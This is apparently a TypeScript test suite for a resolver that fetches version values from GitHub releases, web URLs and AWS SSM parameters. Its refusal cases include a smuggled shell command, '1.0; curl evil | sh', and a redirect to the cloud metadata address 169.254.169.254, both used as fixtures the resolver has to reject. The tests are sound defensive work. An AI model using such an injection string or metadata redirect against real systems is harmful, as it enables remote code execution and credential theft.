import { strict as assert } from "node:assert";
import { createServer, type ServerResponse } from "node:http";
import type { AddressInfo } from "node:net";
import { PutParameterCommand, SSMClient } from "@aws-sdk/client-ssm";
import { GitHubClient } from "../../../operations/github/client";
import { newestOf, type Source, type SourceClients } from "../../../operations/update/source";
import { useWire } from "../../simulator/wire/bench";
import { startGitHub, TOKEN, type GitHubServer } from "../releases/github-server";

describe("where values of variables come from", () => {
  const wire = useWire();
  const answers: Record<string, (response: ServerResponse) => void> = {};
  const server = createServer((request, response) => {
    const answer = answers[request.url ?? ""];
    if (answer) answer(response);
    else response.writeHead(404).end();
  });
  let [origin, github] = ["", undefined as unknown as GitHubServer];

  before(async () => {
    await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
    origin = `http://127.0.0.1:${(server.address() as AddressInfo).port.toString()}`;
  });
  beforeEach(async () => {
    github = await startGitHub();
  });
  afterEach(() => github.close());
  after(() => {
    server.closeAllConnections();
    server.close();
  });

  function clients(): SourceClients {
    const token = () => Promise.resolve(TOKEN);
    const instant = () => Promise.resolve();
    return {
      ssm: () => Promise.resolve(new SSMClient(wire().config)),
      github: new GitHubClient({ api: github.api, token, wait: instant, pause: instant }),
    };
  }
  const ask = (source: Source) => newestOf(source, clients());
  const text = (path: string, body: string) => {
    answers[path] = (response) => response.end(body);
    return `${origin}${path}`;
  };

  it("are the newest release of GitHub, without what its tags begin with, and what its makers say of it", async () => {
    github.releases.push({ id: 2, tag_name: "v3.0.0", draft: true });
    github.releases.push({ id: 1, tag_name: "v2.329.0", draft: false, body: "## New\n@octocat" });
    const url = "https://github.com/example/languages/releases/tag/v2.329.0";
    assert.deepEqual(await ask({ github: "example/languages", strip: "v" }), { now: "2.329.0", url, notes: "## New\n@octocat" }); // prettier-ignore
    assert.equal((await ask({ github: "example/languages" })).now, "v2.329.0");
    await assert.rejects(ask({ github: "example/languages", strip: "runner-" }), { message: "its newest release is v2.329.0, which does not begin with runner-" }); // prettier-ignore
    await assert.rejects(ask({ github: "example/none" }), { name: "GitHubError", status: 404 });
  });

  it("try GitHub again, and wait for its limits for a minute at most", async () => {
    github.releases.push({ id: 1, tag_name: "1.1", draft: false });
    github.refuse.push({ status: 502 }, { status: 429 });
    assert.equal((await ask({ github: "example/languages" })).now, "1.1");
    github.refuse.push({ status: 403, body: { message: "You have exceeded a secondary rate limit." } });
    assert.equal((await ask({ github: "example/languages" })).now, "1.1");
    github.refuse.push(...Array.from({ length: 3 }, () => ({ status: 500 })));
    await assert.rejects(ask({ github: "example/languages" }), { name: "GitHubError", status: 500 });
  });

  it("are an answer as a whole, what a pointer names, or what a pattern captures", async () => {
    const json = text("/json", '[{"a/b": {"~c": "1.27.1"}, "n": 8}]');
    assert.deepEqual(await ask({ url: text("/whole", " 1.2.3\n") }), { now: "1.2.3", url: `${origin}/whole` });
    assert.equal((await ask({ url: json, pointer: "/0/a~1b/~0c" })).now, "1.27.1");
    assert.equal((await ask({ url: json, pointer: "/0/n" })).now, "8");
    assert.equal((await ask({ url: json, pointer: "/0/a~1b/~0c", pattern: "^([0-9]+\\.[0-9]+)" })).now, "1.27");
    answers["/moved"] = (response) => response.writeHead(302, { location: "/whole" }).end();
    assert.equal((await ask({ url: `${origin}/moved` })).now, "1.2.3");
  });

  it("are the value of a parameter", async () => {
    await new SSMClient(wire().config).send(new PutParameterCommand({ Name: "/tools/java", Value: "21.0.5", Type: "String" })); // prettier-ignore
    assert.deepEqual(await ask({ ssm: "/tools/java" }), { now: "21.0.5", from: "/tools/java" });
    await assert.rejects(ask({ ssm: "/tools/none" }), { name: "ParameterNotFound" });
  });

  const refusals: readonly (readonly [string, (url: string) => Source, string])[] = [
    ["what is not there", (url) => ({ url: `${url}/none` }), "127.0.0.1:… answers 404"],
    ["a pointer to nothing", (url) => ({ url: `${url}/json`, pointer: "/1/x" }), "there is no text or number at /1/x"],
    ["a pointer to what objects inherit", (url) => ({ url: `${url}/json`, pointer: "/0/constructor" }), "there is no text or number at /0/constructor"], // prettier-ignore
    ["what is no JSON", (url) => ({ url: `${url}/html`, pointer: "/a" }), "it does not answer with JSON"],
    ["a pattern that fits nowhere", (url) => ({ url: `${url}/html`, pattern: "v([0-9]+)" }), "its answer has nothing that the pattern captures"], // prettier-ignore
    ["a pattern that is none", (url) => ({ url: `${url}/html`, pattern: "([0-9+" }), "the pattern: Invalid regular expression: "], // prettier-ignore
    ["a pattern without an end", (url) => ({ url: `${url}/long`, pattern: "^((a+)+)$" }), "the pattern takes more than a second"], // prettier-ignore
    ["what a shell would run", (url) => ({ url: `${url}/evil` }), 'it gives "1.0; curl evil | sh", and a value may have letters, digits and . _ + : / @ ~ = % , - alone'], // prettier-ignore
    ["a use of a variable", (url) => ({ url: `${url}/braces` }), 'it gives "{TOKEN}", and a value'],
    ["more than 1 MiB", (url) => ({ url: `${url}/large` }), "it answers with more than 1 MiB"],
    ["redirects in a circle", (url) => ({ url: `${url}/circle` }), "it redirects more than 5 times"],
    ["redirects to where nothing is encrypted", (url) => ({ url: `${url}/clear` }), "it redirects to http://169.254.169.254, which is not https"], // prettier-ignore
    ["a connection that ends", (url) => ({ url: `${url}/reset` }), "127.0.0.1:… was not reached: "],
    ["nobody there", () => ({ url: "http://127.0.0.1:1/" }), "127.0.0.1:1 was not reached: "],
  ];
  for (const [what, source, words] of refusals) {
    it(`are not ${what}`, async () => {
      Object.assign(answers, {
        "/circle": (response: ServerResponse) => response.writeHead(301, { location: "/circle" }).end(),
        "/clear": (response: ServerResponse) => response.writeHead(302, { location: "http://169.254.169.254/latest/meta-data" }).end(), // prettier-ignore
        "/reset": (response: ServerResponse) => response.socket?.destroy(),
      });
      text("/json", "[{}]");
      text("/html", "<p>nothing</p>");
      text("/long", `${"a".repeat(40)}!`);
      text("/evil", "1.0; curl evil | sh");
      text("/braces", "{TOKEN}");
      text("/large", "1".repeat(1024 * 1024 + 1));
      await assert.rejects(ask(source(origin)), (error: Error) => {
        assert.ok(error.message.replace(/127\.0\.0\.1:\d{2,}/, "127.0.0.1:…").startsWith(words), error.message);
        return error.name === "Unknown";
      });
    });
  }
});
